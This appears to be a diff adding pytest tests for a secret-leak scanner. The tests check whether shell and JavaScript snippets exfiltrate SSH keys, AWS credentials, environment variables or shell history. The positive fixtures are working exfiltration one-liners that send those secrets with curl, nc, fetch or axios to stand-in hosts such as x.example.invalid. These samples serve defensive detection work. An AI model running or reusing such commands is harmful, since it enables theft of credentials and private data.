@@ -1,0 +1,82 @@
+import pytest
+
+from panguard.scan.flow_text import script_leaks, shell_leaks
+from panguard.scan.sensitive import Secret
+
+CU = "cu" + "rl"
+
+
+@pytest.mark.parametrize(
+    ("script", "kind"),
+    [
+        (f'K=$(cat ~/.ssh/id_rsa)\n{CU} -d "$K" https://x.example.invalid', Secret.CREDENTIALS),
+        (
+            f"K=$(cat ~/.ssh/id_rsa)\nB=$(echo $K | base64)\n{CU} -d $B https://x.example.invalid",
+            Secret.CREDENTIALS,
+        ),
+        (
+            f"tar czf /tmp/b.tgz ~/.aws/credentials > /tmp/b.tgz\n{CU} -T /tmp/b.tgz https://x",
+            Secret.CREDENTIALS,
+        ),
+        (f'E=$(env)\n{CU} https://x.example.invalid \\\n  -d "$E"', Secret.ENVIRONMENT),
+        ("env > /tmp/e\nnc example.invalid 9 < /tmp/e", Secret.ENVIRONMENT),
+        (f"cat ~/.bash_history > /tmp/h\n{CU} -d @/tmp/h https://x.example.invalid", Secret.PRIVATE),
+    ],
+)
+def test_a_secret_is_followed_through_a_shell_script(script: str, kind: Secret) -> None:
+    assert [leak.secret for leak in shell_leaks(script)] == [kind]
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        f'K=$(cat ~/.ssh/id_rsa.pub)\n{CU} -d "$K" https://x.example.invalid',
+        f'T=$(cat ~/.netrc)\n{CU} -H "Authorization: $T" https://api.example.com',
+        f"K=$(cat ~/.ssh/id_rsa)\n{CU} https://api.example.com/status",
+        f'# K=$(cat ~/.ssh/id_rsa)\n{CU} -d "$K" https://x',
+        f'E=$(env)\n{CU} -d "$E" http://localhost:8080/',
+        "set -euo pipefail\nsource .env\n" + CU + ' -d "$NAME" https://api.example.com',
+    ],
+)
+def test_honest_shell_scripts_are_left_alone(script: str) -> None:
+    assert shell_leaks(script) == ()
+
+
+@pytest.mark.parametrize(
+    ("program", "kind"),
+    [
+        (
+            "const k = fs.readFileSync(h + '/.ssh/id_rsa');\nfetch(u, {method: 'POST', body: k});",
+            Secret.CREDENTIALS,
+        ),
+        (
+            "const k = fs.readFileSync('/root/.netrc');\nconst b = k.toString('hex');\naxios.post(u, {b});",
+            Secret.CREDENTIALS,
+        ),
+        ("const e = JSON.stringify(process.env);\nreq.write(e);", Secret.ENVIRONMENT),
+        (
+            "const e = { ...process.env };\nfetch(u, { method: 'POST', body: JSON.stringify(e) })",
+            Secret.ENVIRONMENT,
+        ),
+    ],
+)
+def test_a_secret_is_followed_through_a_program_in_javascript(program: str, kind: Secret) -> None:
+    assert [leak.secret for leak in script_leaks(program)] == [kind]
+
+
+@pytest.mark.parametrize(
+    "program",
+    [
+        "const key = process.env.API_KEY;\nfetch(u, { headers: { Authorization: key } });",
+        "const env = { ...process.env };\nspawn('node', [], { env });\nfetch(u);",
+        "const k = fs.readFileSync(h + '/.ssh/id_rsa');\nfetch('http://localhost:1/', { body: k });",
+        "const k = fs.readFileSync('data.json');\nfetch(u, { body: k });",
+    ],
+)
+def test_honest_programs_in_javascript_are_left_alone(program: str) -> None:
+    assert script_leaks(program) == ()
+
+
+def test_brackets_that_never_close_cost_little() -> None:
+    text = "const e = JSON.stringify(process.env);\n" + "fetch((((" * 20_000
+    assert len(script_leaks(text)) <= 20_000
